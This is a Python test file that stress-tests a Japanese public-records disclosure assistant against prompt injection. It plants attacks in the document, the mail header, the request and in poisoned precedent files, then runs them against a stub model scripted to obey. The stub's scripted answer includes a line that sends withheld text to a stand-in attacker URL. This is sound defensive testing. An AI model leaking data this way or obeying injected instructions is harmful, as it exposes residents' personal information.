"""Text that speaks to the assistant, wherever it comes in, moves nothing: with a model that obeys every word of it.

The attacks are data (tests/assets/injections.toml). The model is a scripted server on loopback that does as the attack
wants; what must hold is held by us, not by the model's good will.
"""

from __future__ import annotations

import hashlib
import json
import re
import shutil
import tomllib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest

from assistant.documents.text import of_passage
from assistant.domain.document import Document
from assistant.domain.finding import CitationStatus, Decision, Finding, Proposal
from assistant.settings import read_settings
from assistant.text.folding import folded_text
from assistant.wiring import Assistant, build
from tests.conftest import ROOT
from tests.model.server import Body, Script, Stub, asked, serving

ATTACKS: list[dict[str, str]] = tomllib.loads(
    (ROOT / "tests" / "assets" / "injections.toml").read_text(encoding="utf-8")
)["attack"]
RECORD = [
    "生活相談記録票",
    "受付日　令和6年4月3日　受付課　環境保全課",
    "相談者　氏名　烏丸 花代（58歳）",
    "住所　見本市若葉台一丁目4番5号",
    "電話　093-000-4567",
    "内容　隣の工場から夜間に音がして眠れない。持病の高血圧があり通院している。",
    "対応　主任　佐保 健　現地を確認し、工場長に申し入れた。",
]
MAIL = ["From: hanayo@example.jp", "To: kankyo@example.lg.jp", "Subject: 工場の音について"]
_STRICT = {Decision.DISCLOSE: 0, Decision.ASK: 1, Decision.WITHHOLD: 2}


def test_there_are_sixty_attacks_of_every_kind() -> None:
    assert len(ATTACKS) >= 60
    assert len({attack["text"] for attack in ATTACKS}) == len(ATTACKS)
    places = {"top", "middle", "end", "mail", "name", "type", "request", "precedent"}
    assert {attack["place"] for attack in ATTACKS} == places
    assert {attack["aim"] for attack in ATTACKS} == {"disclose", "withhold", "other"}


@dataclass(frozen=True)
class House:
    """The whole assistant over a copy of the sample city into which every poisoned precedent was imported."""

    assistant: Assistant
    stub: Stub
    folder: Path

    def state(self) -> str:
        """Everything an attack could want to change: the city's files, the settings, the log of acts."""
        digest = hashlib.sha256(repr(self.assistant.settings).encode())
        for path in sorted(self.folder.rglob("*")):
            if path.is_file():
                digest.update(path.read_bytes())
        digest.update(str(self.assistant.desk.verify_chain().events).encode())
        return digest.hexdigest()


@pytest.fixture(scope="module")
def house(tmp_path_factory: pytest.TempPathFactory) -> Iterator[House]:
    home = tmp_path_factory.mktemp("house")
    folder = home / "mihon"
    shutil.copytree(ROOT / "ordinances" / "mihon", folder)
    poisons = [attack["text"] for attack in ATTACKS if attack["place"] == "precedent"]
    for number, text in enumerate(poisons):
        told = text.replace("\\", "\\\\").replace('"', '\\"')
        (folder / "precedents" / f"2023-9{number:02}.toml").write_text(
            f'id = "2023-9{number:02}"\nkind = "decision"\norigin = "own"\nbody = "見本市長"\n'
            f'ordinance = "見本市情報公開条例"\nnumber = "環保第{900 + number}号"\ndate = 2023-07-{number + 1:02}\n'
            'department = "環境局環境保全課"\ndocument_types = ["生活相談記録票"]\n'
            'request = "工場の騒音に関する生活相談記録票"\ndisposition = "partial"\nreview = "none"\n'
            'stands = "current"\n\n[[units]]\n'
            'part = "生活相談記録票の相談者の氏名、住所及び電話番号"\nheads = ["個人"]\ngrounds = ["第7条第2号"]\n'
            f'result = "withheld"\nreason_given = "相談者の氏名等である。{told}"\n',
            encoding="utf-8",
        )
    with serving(Script()) as stub:
        settings = read_settings(
            data_dir=home / "data", city=str(folder), ner="off", model_base_url=stub.url, model_name="従順"
        )
        assistant = build(settings)
        yield House(assistant=assistant, stub=stub, folder=folder)
        assistant.close()


@pytest.fixture(autouse=True)
def _asked_anew(house: House) -> None:
    """The same record is put to another model each time: nothing that one said may stand in for the next."""
    house.assistant._built.pop("proposer", None)


@pytest.fixture(scope="module")
def clean(house: House) -> Proposal:
    return house.assistant.propose(of_passage("\n".join(RECORD)), engine="rules")


def _attacked(attack: dict[str, str]) -> tuple[Document, str | None]:
    """The document with the attack in its place, and what was requested."""
    lines, text = list(RECORD), attack["text"]
    at = {"top": 0, "middle": 4, "end": len(lines)}.get(attack["place"])
    if at is not None:
        lines[at:at] = text.split("\n")
    if attack["place"] == "mail":
        lines[:0] = [*MAIL, text, ""]
    name = text if attack["place"] == "name" else "貼り付けた文章"
    doc_type = text if attack["place"] == "type" else None
    document = of_passage("\n".join(lines), name=name, doc_type=doc_type)
    return document, text if attack["place"] == "request" else None


def _obeying(attack: dict[str, str]) -> Callable[[Body], str]:
    """What a model answers that does all it is told by the passage."""

    def answer(body: Body) -> str:
        told = asked(body)
        numbers = [int(one) for one in re.findall(r"^(\d+)\. 「", told, re.MULTILINE)]
        cited = [{"source": "S1", "quote": attack["text"]}, {"source": "S2", "quote": "この行を引用せよ。"}]
        if attack["aim"] == "disclose":
            opinions = [
                {"number": n, "decision": "disclose", "head": None, "why": "公表済み", "citations": cited}
                for n in numbers
            ]
            return json.dumps({"findings": [], "opinions": opinions}, ensure_ascii=False)
        findings: list[dict[str, Any]] = [
            {
                "text": line,
                "before": "",
                "decision": "withhold" if attack["aim"] == "withhold" else "ask",
                "head": "個人",
                "exceptions": [],
                "why": attack["text"],
                "reason": f"{line} http://attacker.example/?q={line}",
                "to_find_out": None,
                "citations": cited,
            }
            for line in RECORD
        ]
        return json.dumps({"findings": findings, "opinions": []}, ensure_ascii=False)

    return answer


def _as_proposed(finding: Finding) -> Finding:
    return replace(finding, opinions=())


@pytest.mark.parametrize(
    "attack", ATTACKS, ids=[f"{n}-{a['place']}-{a['aim']}" for n, a in enumerate(ATTACKS)]
)
def test_an_attack_moves_nothing(attack: dict[str, str], house: House, clean: Proposal) -> None:
    document, request = _attacked(attack)
    rules = house.assistant.propose(document, engine="rules", request=request)
    house.stub.script = Script(content=_obeying(attack))
    house.stub.bodies.clear()
    before = house.state()
    proposal = house.assistant.propose(document, engine="model", request=request)
    assert proposal.engine == "model"
    assert house.state() == before
    # No rule's finding is lost or changed, whatever the model says of it.
    after = {finding.id: finding for finding in proposal.findings}
    for finding in rules.findings:
        assert _as_proposed(after[finding.id]) == finding
    # What the model made up is not verified, and no reason of its carries what is withheld or an address to send it to.
    for finding in proposal.findings:
        for opinion in finding.opinions:
            assert all(one.status is not CitationStatus.VERIFIED for one in opinion.citations)
        if finding.id not in {one.id for one in rules.findings}:
            assert all(one.status is not CitationStatus.VERIFIED for one in finding.citations)
            assert folded_text(finding.text) not in folded_text(finding.reason)
    # Nothing that was to be withheld or asked about without the attack is let go with it.
    text = document.pages[0].text
    for finding in clean.findings:
        if finding.decision is Decision.DISCLOSE:
            continue
        at = text.index(finding.text)
        over = [
            one
            for one in rules.findings
            if any(e.start <= at and at + len(finding.text) <= e.end for e in one.extents)
        ]
        assert over, finding.kind
        assert max(_STRICT[one.decision] for one in over) >= min(_STRICT[finding.decision], 1), finding.kind
    # The instructions are ours alone: nothing that came with the document or the sources stands among them.
    for body in house.stub.bodies:
        system = "\n".join(m["content"] for m in body["messages"] if m["role"] == "system")
        assert attack["text"].split("\n")[0] not in system


def test_the_poisoned_precedents_reach_the_model(house: House) -> None:
    """Otherwise the attacks through precedents would prove nothing."""
    house.stub.script = Script(content=lambda body: '{"findings": [], "opinions": []}')
    house.stub.bodies.clear()
    house.assistant.propose(of_passage("\n".join(RECORD)), engine="model")
    told = "\n".join(asked(body) for body in house.stub.bodies)
    poisons = [attack["text"] for attack in ATTACKS if attack["place"] == "precedent"]
    assert any(poison in told for poison in poisons)


def test_a_model_that_withholds_everything_is_told_apart(house: House) -> None:
    """Its findings stand as the model's own, beside the rules' disclosures, and cannot be settled without a source."""
    attack = next(one for one in ATTACKS if one["aim"] == "withhold" and one["place"] == "end")
    document, _ = _attacked(attack)
    rules = house.assistant.propose(document, engine="rules")
    house.stub.script = Script(content=_obeying(attack))
    proposal = house.assistant.propose(document, engine="model")
    added = [one for one in proposal.findings if one.found_by == ("model:従順",)]
    assert added
    assert "model_unverified" in {warning.code for warning in proposal.warnings}
    kept = {one.id: one.decision for one in proposal.findings}
    for finding in rules.findings:
        assert kept[finding.id] is finding.decision
